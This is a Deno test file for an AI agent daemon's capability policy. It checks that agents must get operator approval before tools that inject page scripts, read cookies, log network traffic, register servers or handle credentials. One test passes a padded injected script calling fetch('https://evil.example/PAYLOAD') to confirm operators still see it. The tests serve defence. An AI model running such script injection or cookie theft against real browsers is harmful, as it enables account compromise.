// Issue 33, row 7: safe defaults by capability, not by tool name. Every
// built-in tool declares what it touches (pinned below: a new tool fails
// here until someone decides its capabilities); agents are asked before each
// capability by default, local callers only under `strict`; an operator rule
// can lift one capability for one agent. Through the daemon: an agent's
// `register_server` (SSRF probes, tool descriptions every agent reads) waits
// for the operator instead of running.

import assert from "node:assert/strict";
import { join } from "node:path";
import {
  Client,
  StreamableHTTPClientTransport,
} from "../../platform/mcp_sdk.ts";
import {
  CAPABILITIES,
  type Capability,
  evaluate,
  PolicyConfig,
  type ToolFacts,
} from "../../platform/policy.ts";
import { loadBuiltinServers } from "../../tools/registry.ts";
import {
  type Daemon,
  spawnServe,
  tempDir,
  textOf,
  waitFor,
} from "../helpers.ts";

/** `<server>.<tool>` → what it touches. A tool missing here, or declaring otherwise, fails the first test. */
const TOUCHES: Record<string, Capability[]> = {
  "browser-automation.navigate": [],
  "browser-automation.screenshot": ["files-write"],
  "browser-automation.click_element": [],
  "browser-automation.type_text": [],
  "browser-automation.get_text": [],
  "browser-automation.get_html": [],
  "browser-automation.get_links": [],
  "browser-automation.fill_form": [],
  "browser-automation.submit_form": [],
  "browser-automation.wait_for": [],
  "browser-automation.execute_js": ["page-script"],
  "browser-automation.get_cookies": ["cookies-storage"],
  "browser-automation.scroll": [],
  "browser-automation.select_option": [],
  "browser-automation.snapshot": [],
  "extension-bridge.get_extension_state": [],
  "extension-bridge.list_extensions": [],
  "extension-bridge.execute_extension_action": [
    "page-script",
    "cookies-storage",
  ],
  "extension-bridge.inject_content_script": ["page-script"],
  "extension-bridge.get_extension_permissions": [],
  "extension-bridge.bridge_cdp_command": [
    "page-script",
    "cookies-storage",
    "network-log",
  ],
  "in-page.get_dom": [],
  "in-page.execute_js": ["page-script"],
  "in-page.get_page_state": [],
  "in-page.get_cookies": ["cookies-storage"],
  "in-page.set_cookies": ["cookies-storage"],
  "in-page.get_local_storage": ["cookies-storage"],
  "in-page.get_session_storage": ["cookies-storage"],
  "in-page.wait_for_element": [],
  "in-page.get_accessibility_tree": [],
  "in-page.intercept_network": ["network-log"],
  "in-page.fill_form": [],
  "in-page.get_text_content": [],
  "desktop-control.screenshot": [],
  "desktop-control.mouse_move": [],
  "desktop-control.mouse_click": ["desktop-input"],
  "desktop-control.mouse_drag": ["desktop-input"],
  "desktop-control.keyboard_type": ["desktop-input"],
  "desktop-control.keyboard_press": ["desktop-input"],
  "desktop-control.keyboard_shortcut": ["desktop-input"],
  "desktop-control.get_window_list": [],
  "desktop-control.focus_window": [],
  "desktop-control.get_clipboard": [],
  "desktop-control.set_clipboard": ["desktop-input"],
  "desktop-control.file_read": [],
  "desktop-control.file_write": ["files-write"],
  "gateway.list_servers": [],
  "gateway.register_server": ["upstreams"],
  "gateway.unregister_server": ["upstreams"],
  "gateway.route_tool_call": [],
  "gateway.broadcast_tool_call": [],
  "gateway.get_server_health": [],
  "gateway.get_server_tools": [],
  "gateway.discover_servers": [],
  "memory.store_memory": [],
  "memory.import_memories": [],
  "memory.retrieve_memory": [],
  "memory.update_memory": [],
  "memory.delete_memory": [],
  "memory.list_memories": [],
  "memory.search_memory": [],
  "memory.cross_reference": [],
  "memory.store_conversation": [],
  "memory.get_conversation_history": [],
  "memory.get_agent_context": [],
  // Both may store new tokens an agent consented to with an account of its own.
  "platform-auth.authenticate": ["credentials"],
  "platform-auth.get_token": ["credentials"],
  "platform-auth.refresh_token": [],
  "platform-auth.revoke_token": ["credentials"],
  "platform-auth.list_platforms": [],
  "platform-auth.add_platform": ["credentials"],
  "platform-auth.remove_platform": ["credentials"],
  "platform-auth.get_auth_status": [],
  "platform-auth.oauth_callback": ["credentials"],
  "platform-auth.validate_token": [],
};

Deno.test("security: every built-in tool declares what it touches, as pinned", async () => {
  const declared: Record<string, readonly Capability[] | undefined> = {};
  for (const spec of await loadBuiltinServers()) {
    for (const def of spec.tools) {
      declared[`${spec.id}.${def.name}`] = def.touches;
    }
  }
  const undeclared = Object.entries(declared)
    .filter(([, touches]) => touches === undefined).map(([name]) => name);
  assert.deepEqual(
    undeclared,
    [],
    "tools without `touches`: declare what they touch (platform/policy.ts CAPABILITIES) and pin it here",
  );
  assert.deepEqual(
    Object.keys(declared).toSorted(),
    Object.keys(TOUCHES).toSorted(),
    "a tool was added or removed: decide its capabilities and pin them here",
  );
  for (const [name, touches] of Object.entries(declared)) {
    assert.deepEqual(touches, TOUCHES[name], name);
  }
  // Every capability is one some tool declares: none is dead.
  const used = new Set(Object.values(TOUCHES).flat());
  assert.deepEqual(
    [...used].toSorted(),
    Object.keys(CAPABILITIES).toSorted(),
  );
});

function facts(name: string, caller: ToolFacts["caller"]): ToolFacts {
  const [server, tool] = name.split(".");
  return {
    server,
    tool,
    args: name.endsWith("file_write") ? { path: "/etc/x" } : {},
    caller,
    touches: TOUCHES[name],
    argKinds: name.endsWith("file_write") || name.endsWith(".screenshot")
      ? { path: "path" }
      : {},
  };
}

Deno.test("security: agents are asked for each capability by default; local callers only when strict", () => {
  const policy = PolicyConfig.parse({});
  const strict = PolicyConfig.parse({ strict: true });
  for (const [name, touches] of Object.entries(TOUCHES)) {
    const agent = evaluate(policy, facts(name, { agent: "bot" }));
    const local = evaluate(policy, facts(name, {}));
    if (touches.length === 0) {
      assert.equal(agent.decision, "allow", name);
      continue;
    }
    // A tool without a path writes no file: a screenshot returned, not saved.
    if (name === "browser-automation.screenshot") continue;
    assert.deepEqual(
      agent,
      { decision: "ask", rule: `safe-default:${touches[0]}` },
      name,
    );
    assert.equal(local.decision, "allow", name);
    assert.equal(evaluate(strict, facts(name, {})).decision, "ask", name);
  }
});

Deno.test("security: files-write inside write_roots stays unasked; outside, or as a screenshot path, asks", () => {
  const policy = PolicyConfig.parse({ write_roots: ["/work/out/"] });
  const write = (name: string, path?: string): ToolFacts => ({
    ...facts(name, { agent: "bot" }),
    args: path === undefined ? {} : { path },
    argKinds: { path: "path" },
  });
  const file = "desktop-control.file_write";
  const shot = "browser-automation.screenshot";
  assert.equal(
    evaluate(policy, write(file, "/work/out/a.txt")).decision,
    "allow",
  );
  assert.equal(evaluate(policy, write(file, "/work/outside")).decision, "ask");
  assert.equal(evaluate(policy, write(shot, "/etc/x.png")).decision, "ask");
  assert.equal(
    evaluate(policy, write(shot, "/work/out/x.png")).decision,
    "allow",
  );
  assert.equal(evaluate(policy, write(shot)).decision, "allow");
});

Deno.test("security: a capability rule lifts one capability for one agent, never another it did not name", () => {
  const policy = PolicyConfig.parse({
    rules: [
      {
        id: "notes-cookies",
        agent: "notes",
        capability: "cookies-storage",
        decision: "allow",
      },
      { id: "no-scripts", capability: ["page-script"], decision: "deny" },
    ],
  });
  const notes = { agent: "notes" };
  assert.deepEqual(
    evaluate(policy, facts("in-page.get_cookies", notes)),
    { decision: "allow", rule: "notes-cookies" },
  );
  // Another agent is still asked.
  assert.equal(
    evaluate(policy, facts("in-page.get_cookies", { agent: "other" })).rule,
    "safe-default:cookies-storage",
  );
  // A tool that also runs page scripts is not allowed by the cookie rule; the deny matches it.
  assert.deepEqual(
    evaluate(policy, facts("extension-bridge.execute_extension_action", notes)),
    { decision: "deny", rule: "no-scripts" },
  );
  // A tool touching nothing is not matched by a capability rule.
  assert.equal(
    evaluate(policy, facts("memory.store_memory", notes)).rule,
    "agent_default",
  );
  assert.throws(() =>
    PolicyConfig.parse({
      rules: [{ capability: "cookies", decision: "allow" }],
    })
  );
});

const OPERATOR = "capabilities-operator-token-0123456789";
const ALICE = "capabilities-alice-agent-token-0123456789";

async function pendingList(
  daemon: Daemon,
): Promise<
  { id: string; rule: string; tool: string; caller: string; runs: string }[]
> {
  const response = await fetch(`${daemon.url}/admin/policy/approvals`, {
    headers: { authorization: `Bearer ${OPERATOR}` },
  });
  const body = await response.json();
  return body.approvals.filter((item: { status: string }) =>
    item.status === "pending"
  );
}

Deno.test({
  name:
    "security: an agent's register_server waits for the operator; a capability rule lifts it for that agent",
  sanitizeResources: false,
  async fn() {
    await using dir = await tempDir();
    const daemon = await spawnServe(join(dir.path, "data"), {
      extra: ["--servers", "memory,gateway"],
      env: {
        AGENTD_TOKEN: OPERATOR,
        AGENTD_AGENT_TOKENS: JSON.stringify({ alice: ALICE }),
      },
    });
    const client = new Client({ name: "capabilities", version: "1.0.0" });
    try {
      await client.connect(
        new StreamableHTTPClientTransport(
          new URL(`${daemon.url}/mcp/gateway`),
          {
            requestInit: { headers: { authorization: `Bearer ${ALICE}` } },
          },
        ),
      );
      const register = (name: string) =>
        client.callTool({
          name: "register_server",
          arguments: { name, url: "http://127.0.0.1:9/mcp" },
        });
      const names = async () =>
        textOf(await client.callTool({ name: "list_servers", arguments: {} }));

      const waiting = register("probe");
      const [pending] = await waitFor(
        () => pendingList(daemon),
        (list) => list.length === 1,
      );
      assert.equal(pending.rule, "safe-default:upstreams");
      assert.equal(pending.caller, "agent:alice");
      const denied = await fetch(
        `${daemon.url}/admin/policy/approvals/${pending.id}/deny`,
        { method: "POST", headers: { authorization: `Bearer ${OPERATOR}` } },
      );
      assert.equal(denied.status, 200);
      await denied.body?.cancel();
      const refused = await waiting;
      assert.equal(refused.isError, true);
      assert.match(textOf(refused), /safe-default:upstreams/);
      assert.doesNotMatch(await names(), /probe/);

      // The operator lifts the capability for alice alone.
      const put = await fetch(`${daemon.url}/admin/policy`, {
        method: "PUT",
        headers: { authorization: `Bearer ${OPERATOR}` },
        body: JSON.stringify({
          rules: [{
            id: "alice-upstreams",
            agent: "alice",
            capability: "upstreams",
            decision: "allow",
          }],
        }),
      });
      assert.equal(put.status, 200, await put.text());
      const lifted = await register("probe2");
      assert.doesNotMatch(textOf(lifted), /Denied|approv/, textOf(lifted));
      assert.deepEqual(await pendingList(daemon), []);
      const audit = await fetch(
        `${daemon.url}/admin/policy/audit?tool=register_server`,
        { headers: { authorization: `Bearer ${OPERATOR}` } },
      );
      assert.deepEqual(
        (await audit.json()).records.map((
          record: { decision: string; rule: string },
        ) => [record.decision, record.rule]),
        [
          ["declined", "safe-default:upstreams"],
          ["allowed", "alice-upstreams"],
        ],
      );
    } finally {
      await client.close().catch(() => {});
      await daemon.stop();
    }
  },
});

/** Row 7's tools, each with arguments that pass validation, and the capability it is asked for. */
const ROW_SEVEN: [string, Record<string, unknown>, Capability][] = [
  ["extension-bridge__inject_content_script", {
    extension_id: "a".repeat(32),
    script: "document.title = 'x'",
    matches: ["<all_urls>"],
  }, "page-script"],
  ["extension-bridge__execute_extension_action", {
    extension_id: "a".repeat(32),
    action: "storage_get",
  }, "page-script"],
  ["in-page__get_cookies", { domain: "example.com" }, "cookies-storage"],
  ["in-page__set_cookies", {
    cookies: [{ name: "sid", value: "x", domain: "example.com" }],
  }, "cookies-storage"],
  ["in-page__intercept_network", { pattern: "*" }, "network-log"],
  ["unregister_server", { name: "memory" }, "upstreams"],
  ["platform-auth__add_platform", {
    platform: "mock",
    config: {
      issuer: "http://127.0.0.1:9/issuer",
      client_id: "agent-chosen",
      client_secret: "agent-chosen-secret-0123456789",
    },
  }, "credentials"],
  ["platform-auth__remove_platform", { platform: "mock" }, "credentials"],
  ["platform-auth__revoke_token", { platform: "mock" }, "credentials"],
];

Deno.test({
  name:
    "security: an agent is asked before each of row 7's tools through the gateway, and a denial runs none of them",
  sanitizeResources: false,
  async fn(t) {
    await using dir = await tempDir();
    const daemon = await spawnServe(join(dir.path, "data"), {
      extra: [
        "--servers",
        "memory,gateway,in-page,extension-bridge,platform-auth",
      ],
      env: {
        AGENTD_TOKEN: OPERATOR,
        AGENTD_AGENT_TOKENS: JSON.stringify({ alice: ALICE }),
      },
    });
    const client = new Client({ name: "capabilities", version: "1.0.0" });
    try {
      await client.connect(
        new StreamableHTTPClientTransport(new URL(`${daemon.url}/mcp`), {
          requestInit: { headers: { authorization: `Bearer ${ALICE}` } },
        }),
      );
      for (const [name, args, capability] of ROW_SEVEN) {
        await t.step(name, async () => {
          const waiting = client.callTool({ name, arguments: args });
          const [pending] = await waitFor(
            () => pendingList(daemon),
            (list) => list.length === 1,
          );
          assert.equal(pending.rule, `safe-default:${capability}`);
          assert.equal(pending.caller, "agent:alice");
          const denied = await fetch(
            `${daemon.url}/admin/policy/approvals/${pending.id}/deny`,
            {
              method: "POST",
              headers: { authorization: `Bearer ${OPERATOR}` },
            },
          );
          assert.equal(denied.status, 200);
          await denied.body?.cancel();
          const refused = await waiting;
          assert.equal(refused.isError, true, textOf(refused));
          assert.match(textOf(refused), /declined/);
        });
      }
      // A payload padded past any excerpt still reaches the operator's view.
      const padded = client.callTool({
        name: "extension-bridge__inject_content_script",
        arguments: {
          extension_id: "a".repeat(32),
          script: `/*${
            "x".repeat(5_000)
          }*/ fetch("https://evil.example/PAYLOAD")`,
          matches: ["<all_urls>"],
        },
      });
      const [shown] = await waitFor(
        () => pendingList(daemon),
        (list) => list.length === 1,
      );
      assert.match(shown.runs, /evil\.example\/PAYLOAD/);
      await fetch(`${daemon.url}/admin/policy/approvals/${shown.id}/deny`, {
        method: "POST",
        headers: { authorization: `Bearer ${OPERATOR}` },
      }).then((response) => response.body?.cancel());
      assert.equal((await padded).isError, true);

      // Nothing ran: the gateway still serves memory, no platform was added.
      const servers = textOf(
        await client.callTool({ name: "list_servers", arguments: {} }),
      );
      assert.match(servers, /memory__store_memory/);
      const platforms = await fetch(`${daemon.url}/health`, {
        headers: { authorization: `Bearer ${OPERATOR}` },
      }).then((response) => response.text());
      assert.doesNotMatch(platforms, /agent-chosen/);

      // A refusal on an argument holds when the call leaves it out (the
      // tab's own domain) or nests it: the rule cannot see which it is.
      const put = await fetch(`${daemon.url}/admin/policy`, {
        method: "PUT",
        headers: { authorization: `Bearer ${OPERATOR}` },
        body: JSON.stringify({
          rules: [{
            id: "no-bank-cookies",
            tool: "get_cookies",
            args: { domain: "*bank.com" },
            decision: "deny",
          }, {
            agent: "alice",
            capability: "cookies-storage",
            decision: "allow",
          }],
        }),
      });
      assert.equal(put.status, 200, await put.text());
      for (const args of [{ domain: "mybank.com" }, {}]) {
        const refused = await client.callTool({
          name: "in-page__get_cookies",
          arguments: args,
        });
        assert.equal(refused.isError, true, JSON.stringify(args));
        assert.match(textOf(refused), /no-bank-cookies/, JSON.stringify(args));
      }
      const other = await client.callTool({
        name: "in-page__get_cookies",
        arguments: { domain: "example.com" },
      });
      assert.doesNotMatch(textOf(other), /no-bank-cookies/);
    } finally {
      await client.close().catch(() => {});
      await daemon.stop();
    }
  },
});
